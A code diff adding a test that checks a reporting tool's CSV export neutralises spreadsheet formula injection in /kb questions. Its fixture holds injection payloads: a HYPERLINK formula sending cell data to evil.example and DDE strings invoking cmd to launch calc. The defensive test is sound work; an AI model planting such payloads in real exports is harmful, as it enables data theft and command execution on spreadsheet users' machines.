@@ -17,6 +17,7 @@ from datetime import timedelta
 
 from tests.conftest import REPO_ROOT
 from tests.fakes.clock import DEFAULT_START
+from tests.kb_steps import ASKER, kb_bot, kb_folder  # noqa: F401  (fixtures)
 from tests.metrics_steps import Desk
 from tests.ticket_steps import create_ticket
 from workflows.reports.formats import COLUMNS
@@ -90,6 +91,33 @@ async def test_csv_json_and_table_carry_the_same_numbers(bot, database_url):
     narrowed = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "csv", "--category", "login PROBLEMS")
     assert narrowed.returncode == 0, narrowed.stderr
     assert "tickets_created,all,1," in narrowed.stdout
+
+
+# Questions typed into /kb that a spreadsheet would run as formulas, and what the CSV must hold instead.
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?q="&A1,"Export invoices")': "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Export invoices\")",
+    "+cmd|' /C calc'!A0 printer drivers": "'+cmd|' /C calc'!A0 printer drivers",
+    "-lunar eclipse colours+": "'-lunar eclipse colours+",
+    "@SUM(1+1)*cmd|' /C calc'!A0 sandbox": "'@SUM(1+1)*cmd|' /C calc'!A0 sandbox",
+}
+
+
+async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(kb_bot, database_url):
+    for number, question in enumerate(FORMULAS):
+        name = f"kb{number}"
+        reply = await kb_bot.sender.slash("/kb", question, user_id=ASKER, response_url=kb_bot.slack.response_url(name))
+        assert reply.status == 200
+        await kb_bot.slack.wait_for_response(name)
+
+    as_csv = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "csv")
+    assert as_csv.returncode == 0, as_csv.stderr
+    rows = list(csv.reader(io.StringIO(as_csv.stdout)))
+    gaps = {row[1] for row in rows if row[0] == "kb_gap"}
+    assert gaps == set(FORMULAS.values())
+    dangerous = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    as_json = json.loads(report(database_url, "--since", "1d", "--until", UNTIL, "--format", "json").stdout)
+    assert {m["scope"] for m in as_json["metrics"] if m["metric"] == "kb_gap"} == set(FORMULAS)  # JSON is data
 
 
 def test_bad_arguments_exit_2_with_one_clear_line(tmp_path):
